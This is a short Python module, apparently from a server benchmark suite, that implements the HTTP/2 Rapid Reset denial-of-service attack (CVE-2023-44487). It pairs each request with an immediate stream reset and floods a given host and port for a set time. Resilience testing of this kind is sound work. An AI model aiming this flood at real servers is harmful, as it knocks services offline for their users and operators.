"""Calls of a served method that are reset at once (CVE-2023-44487), on connection after connection."""

from __future__ import annotations

import ssl
from collections.abc import Iterator

from benchmarks.hostile import wire
from benchmarks.hostile.unroutable_calls import calls

CONFIG: str | None = None


def sending() -> Iterator[bytes]:
    return wire.gathered(_frames())


def _frames() -> Iterator[bytes]:
    for stream_id, call in zip(wire.stream_ids(), calls(wire.PATH), strict=False):
        yield call
        yield wire.frame(wire.RST_STREAM, 0, stream_id, b"\0\0\0\x08")


async def attack(host: str, port: int, seconds: float, tls: ssl.SSLContext | None = None) -> int:
    return await wire.flood(host, port, seconds, tls, sending)
